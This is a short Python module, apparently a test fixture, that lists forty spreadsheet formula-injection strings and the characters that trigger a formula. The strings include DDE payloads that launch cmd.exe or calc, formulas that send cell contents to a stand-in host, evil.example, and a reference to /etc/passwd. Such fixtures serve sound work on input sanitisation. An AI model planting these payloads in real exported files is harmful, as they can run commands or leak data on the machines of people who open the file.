"""Forty texts that some spreadsheet would run: each starts a formula if nobody puts something in front of it."""

from __future__ import annotations

PAYLOADS = (
    "=1+1", "=SUM(1,2)", "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/?"&A1,"点我")', '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/c calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=A1:B2", "='file:///etc/passwd'#$passwd.A1", "=INDIRECT(\"A1\")", "={1;2}",
    "=1+1\"", "==1", "= 1", "=\t1", "=\"\"&1", "=-1+1", "=+1",
    "+1", "+1+cmd|'/c calc'!A0", "+SUM(1,1)", "+8613800000000-1", "+A1",
    "-1", "-1+cmd|'/c calc'!A0", "-2+3+cmd|'/c notepad'!A1", "-(1)", "-A1",
    "@SUM(1+1)*cmd|'/c calc'!A0", "@A1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1,1)",
)  # fmt: skip
STARTS = "=+-@\t\r\n＝＋－＠"
